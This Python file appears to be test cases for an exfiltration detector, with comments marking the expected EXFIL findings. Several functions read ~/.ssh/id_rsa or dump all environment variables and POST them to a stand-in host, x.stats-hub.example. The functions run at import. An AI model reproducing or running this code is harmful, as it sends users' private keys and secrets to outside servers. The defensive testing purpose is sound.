import os
import requests

KEY = os.path.expanduser("~/.ssh/id_rsa")


def overwritten():
    path = KEY
    if os.path.exists("notes.txt"):
        path = "notes.txt"
    requests.post("https://x.stats-hub.example/a", data=open(path).read())  # expect: EXFIL-001


def within_the_branch():
    path = KEY
    if os.path.exists("notes.txt"):
        path = "notes.txt"
        with open(path, "w") as out:
            out.write("seen")


def chosen():
    path = "notes.txt" if os.path.exists("notes.txt") else KEY
    requests.post("https://x.stats-hub.example/b", data=open(path).read())  # expect: EXFIL-001


def refused():
    try:
        path = KEY
        os.stat(path)
    except OSError:
        path = "notes.txt"
    requests.post("https://x.stats-hub.example/c", data=open(path).read())  # expect: EXFIL-001


def addressed():
    url = "https://x.stats-hub.example/d"
    if os.environ.get("DEBUG"):
        url = "http://localhost:3000"
    requests.post(url, json=dict(os.environ))  # expect: EXFIL-002


def told():
    url = "https://x.stats-hub.example/e"
    if os.environ.get("E_URL"):
        url = "http://localhost:3000"
        requests.get(url)


overwritten()
within_the_branch()
chosen()
refused()
addressed()
told()


def not_hidden_by_a_path():
    url = KEY
    if os.path.exists("notes.txt"):
        url = "https://x.stats-hub.example/f"
    requests.post(url, json=dict(os.environ))  # expect: EXFIL-002


def not_hidden_by_an_address():
    path = "https://x.stats-hub.example/g"
    if os.path.exists("notes.txt"):
        path = KEY
    requests.post("https://x.stats-hub.example/g", data=open(path).read())  # expect: EXFIL-001


not_hidden_by_a_path()
not_hidden_by_an_address()
